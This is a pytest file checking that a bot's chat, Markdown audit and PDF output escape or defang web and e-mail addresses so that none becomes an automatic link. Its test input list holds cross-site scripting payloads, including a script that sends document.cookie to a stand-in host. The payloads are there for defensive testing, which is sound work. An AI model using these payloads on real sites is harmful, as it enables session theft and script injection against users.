"""Web and e-mail addresses people type stay text: the chat's and the audit's escaping leaves no
automatic link (GFM's ``://``, ``www.`` and e-mail), and the text reads exactly as typed. In the
PDF, which has no escape, the owner's addresses are written defanged (``our-shop[.]se``) so that
neither pdf.js's autolinker nor PDFium's (Chrome's viewer) finds a link in them."""

from __future__ import annotations

import ctypes
import html
import io
import re
import time
from dataclasses import replace
from typing import Any

import pytest
import regex

from bot.audit import build_audit, render
from bot.audit.render.md import esc
from bot.citations import Citation
from bot.links import backslashed, defanged, reference, unlinked
from bot.web.render import text
from evals.personas import load_personas

# What a GFM renderer (marked in the page, GitHub for a .md file) makes a link of, unescaped.
AUTOLINK = re.compile(r"(?i)(?:https?|ftp)://|www\.|[\w.+-]@[\w-]")

HOSTILE = [
    "Our shop: https://example.com/shop?x=1&y=2 and www.example.org/path",
    "HTTPS://EXAMPLE.COM WWW.EXAMPLE.COM ftp://files.example.com",
    "mail me: owner+ads@example.co.uk, or @ourshop on Instagram",
    "javascript:alert(1) [click](javascript:alert(1)) <javascript:alert(1)>",
    '"><a href="https://evil.example" onclick="x()">win</a>',
    "<script>location='https://evil.example/?c='+document.cookie</script>",
    "![track](http://tracker.example/p.gif) <http://evil.example> [x](https://evil.example 'title')",
    'https://example.com/"onmouseover="alert(1)',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://" + "a" * 20_000 + ".example/" + "b/" * 5_000,
]


@pytest.mark.parametrize("typed", HOSTILE)
def test_the_chat_text_has_no_link_no_markup_and_reads_as_typed(typed: str) -> None:
    shown = text(typed)
    assert not AUTOLINK.search(shown), shown[:120]
    assert "<" not in shown and ">" not in shown and "[" not in shown and "](" not in shown
    assert html.unescape(shown) == typed  # what the reader sees is what the owner typed


@pytest.mark.parametrize("typed", HOSTILE)
def test_the_audit_markdown_has_no_link_and_reads_as_typed(typed: str) -> None:
    shown = esc(typed)
    assert not AUTOLINK.search(shown), shown[:120]
    assert "<" not in shown and ">" not in shown
    unescaped = html.unescape(re.sub(r"\\(.)", r"\1", shown))  # a Markdown viewer's reading of it
    assert unescaped == " ".join(typed.split())


def test_only_the_character_that_starts_a_link_changes() -> None:
    assert unlinked("see https://a.example/x", reference) == "see https&#58;//a.example/x"
    assert unlinked("www.a.example and WWW.B.EXAMPLE", reference) == "www&#46;a.example and WWW&#46;B.EXAMPLE"
    assert unlinked("me@a.example", backslashed) == "me\\@a.example"
    unchanged = "@ourshop on Instagram, 3:30 pm, ratio 2:1, 10.5 % of www, e-mail us"
    assert unlinked(unchanged, reference) == unchanged


def test_a_very_long_address_is_handled_in_linear_time() -> None:
    long = ("https://" + "a" * 200_000 + " www." + "b" * 200_000 + " x@" + "c" * 200_000)
    started = time.perf_counter()
    shown = text(long)
    assert time.perf_counter() - started < 2.0
    assert not AUTOLINK.search(shown) and html.unescape(shown) == long


def test_defanged_brackets_only_what_starts_a_link_in_address_like_words() -> None:
    assert defanged("see https://our-shop.example/sale now.") == "see https[:]//our-shop[.]example/sale now."
    assert defanged("www.our-shop.se, or (WWW.Shop.SE).") == "www[.]our-shop[.]se, or (WWW[.]Shop[.]SE)."
    assert defanged("mail anna.b@our-shop.se!") == "mail anna[.]b[@]our-shop[.]se!"
    assert defanged("mailto:anna") == "mailto[:]anna" and defanged("see our-shop.se.") == "see our-shop[.]se."
    unchanged = "@ourshop on Instagram, 3:30 pm, ratio 2:1, 10.5 %, t.ex. bl.a. 5.000 kr, e-post. Slut."
    assert defanged(unchanged) == unchanged


def test_defanged_is_linear_on_long_words() -> None:
    started = time.perf_counter()
    for long in ("a" * 200_000, "ab." * 70_000 + "1", "https://" + "a." * 100_000, "x@" * 100_000):
        assert not PDFJS.search(defanged(long)[:5000])
    assert time.perf_counter() - started < 2.0


# pdf.js's autolinker (web/autolinker.js, Autolinker.findLinks, 2025), in the ``regex`` module's
# syntax: JavaScript's \b under the u flag is an ASCII word boundary.
PDFJS = regex.compile(
    r"(?<![A-Za-z0-9_])(?:https?://|mailto:|www\.)(?:[^\s\p{P}<>]|/|[^\s\[\]]+[^\s\p{P}<>])+"
    r"|(?=\p{L})[^\s@\p{Ps}\p{Pe}<>]+@((?:(?=-|[^\s\p{P}<>])[\s\S])+(?:\.(?:(?=-|[^\s\p{P}<>])[\s\S])+)+)")
OWNER = "we sell to shops, see https://our-shop.example/about or www.our-shop.se, mail anna@our-shop.se"
ARTICLE = "Read more at https://article.example/guide or write to editor@article.example."


def _pdfium_links(page: Any) -> list[str]:
    """The web links PDFium (Chrome's PDF viewer) finds in a page's text, with no annotation."""
    import pypdfium2.raw as raw

    textpage = page.get_textpage()
    links = raw.FPDFLink_LoadWebLinks(textpage.raw)
    try:
        out = []
        for i in range(raw.FPDFLink_CountWebLinks(links)):
            size = raw.FPDFLink_GetURL(links, i, None, 0)
            buffer = (ctypes.c_ushort * size)()
            raw.FPDFLink_GetURL(links, i, buffer, size)
            out.append(bytes(buffer).decode("utf-16-le").rstrip("\x00"))
        return out
    finally:
        raw.FPDFLink_CloseWebLinks(links)


def test_the_pdf_has_no_link_in_the_owners_words_and_they_stay_readable(bundled_retriever: Any) -> None:
    import pypdfium2 as pdfium
    from pypdf import PdfReader

    persona = next(p for p in load_personas() if p.id == "web_shop")
    profile = (persona.profile
               .with_answer("sales.buyers", "shops at www.our-shop.se", "answered", OWNER)
               .with_answer("resources.hours_per_week", 10, "answered", "10 h, ask anna@our-shop.se"))
    audit = build_audit(profile, bundled_retriever, persona.lang)
    article = Citation("x-1", "009_article.txt", ARTICLE, "sv", "An article")  # the articles' words
    data = bytes(render(replace(audit, citations=(*audit.citations, article)), "pdf"))  # type: ignore[arg-type]

    pdf = pdfium.PdfDocument(data)
    pages = [pdf[i] for i in range(len(pdf))]
    shown = "\n".join(p.get_textpage().get_text_range() for p in pages)
    flat = " ".join(shown.split())
    found = [m.group(0) for m in PDFJS.finditer(flat)] + [u for p in pages for u in _pdfium_links(p)]
    # Both linkifiers work on this PDF: the article's address and e-mail are links, as printed.
    assert ARTICLE in flat and any("article.example/guide" in u for u in found)
    assert any("editor@article.example" in u for u in found)
    assert not [u for u in found if "our-shop" in u], found  # nothing the owner typed
    for readable in ("https[:]//our-shop[.]example/about", "www[.]our-shop[.]se", "anna[@]our-shop[.]se",
                     "10 h, ask anna[@]our-shop[.]se"):
        assert readable in flat, readable
    reader = PdfReader(io.BytesIO(data))
    assert all("/Annots" not in page for page in reader.pages)
    assert b"/URI" not in data and b"/Link" not in data


def test_a_web_address_is_unquestioned_and_the_owners_words_and_questions_stay() -> None:
    from bot.interview.cues import looks_like_question
    from bot.links import unquestioned

    text = "de handler i nettbutikken (se https://sykkelbua-nord.no/tilbud?utm=x) eller på www.sykkelbua.no"
    kept = unquestioned(text)
    assert "tilbud/utm=x" in kept and "nettbutikken" in kept and not looks_like_question(text, "nb")
    assert unquestioned("Hvor ofte bør vi poste?") == "Hvor ofte bør vi poste?"
